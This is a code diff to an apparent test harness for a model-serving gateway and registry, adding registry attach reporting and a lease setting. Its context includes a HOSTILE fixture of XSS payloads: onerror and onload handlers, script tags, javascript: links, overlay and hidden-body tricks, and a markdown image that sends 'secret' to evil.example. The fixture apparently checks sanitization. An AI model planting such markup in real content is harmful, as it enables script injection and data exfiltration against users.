@@ -20,7 +20,7 @@ import httpx
 import structlog
 from prometheus_client import CollectorRegistry
 
-from cortex.v1 import model_pb2, neuron_service_pb2
+from cortex.v1 import model_pb2, neuron_service_pb2, registry_service_pb2
 from services.backplane.logs import LogSettings
 from services.backplane.process.lifecycle import Shutdown
 from services.gateway.settings import ApiKey, AuthSettings, GatewaySettings
@@ -59,6 +59,7 @@ HOSTILE = """# Hello <img src=x onerror="window.hacked=1"> <script>window.hacked
 
 <style>body{display:none}</style><form action="http://evil.example"><input name="a"><button>go</button></form>
 <iframe src="http://evil.example"></iframe><a href="javascript:window.hacked=1">click</a>
+
 ![leak](http://evil.example/x.png?q=secret) <svg onload="window.hacked=1"></svg>
 <div style="position:fixed;inset:0" onmouseover="window.hacked=1">cover</div>
 """
@@ -155,6 +156,17 @@ class Neuron(registry_stand_ins.ScriptedNeuron):
                 yield step
         finally:
             self.coming.pop(model, None)
+
+    async def _words(self, admitted: asyncio.Event) -> AsyncIterator[Any]:
+        """Reports as seldom as a daemon does, for many of them run in one process."""
+        yield registry_service_pb2.AttachRequest(hello=self.identity())
+        await admitted.wait()
+        while True:
+            changed = self._changed
+            yield registry_service_pb2.AttachRequest(report=self.report())
+            with contextlib.suppress(TimeoutError):
+                async with asyncio.timeout(1.0):
+                    await changed.wait()
 
     async def Session(self, request_iterator: Any, context: Any) -> None:
         await self.talker.Session(request_iterator, context)
@@ -298,7 +310,9 @@ async def traffic(address: str, streams: int) -> None:
 async def serve(*, keys: bool, many: int, port: int) -> None:
     async with contextlib.AsyncExitStack() as stack:
         folder = pathlib.Path(stack.enter_context(tempfile.TemporaryDirectory()))
-        settings = document(folder, CATALOGUE, eviction={"patience_seconds": 3600.0})
+        settings = document(
+            folder, CATALOGUE, lease_seconds=5.0, eviction={"patience_seconds": 3600.0}
+        )
         registry = await stack.enter_async_context(running_fleet(settings))
         neurons = hosts(many)
         for one in neurons:
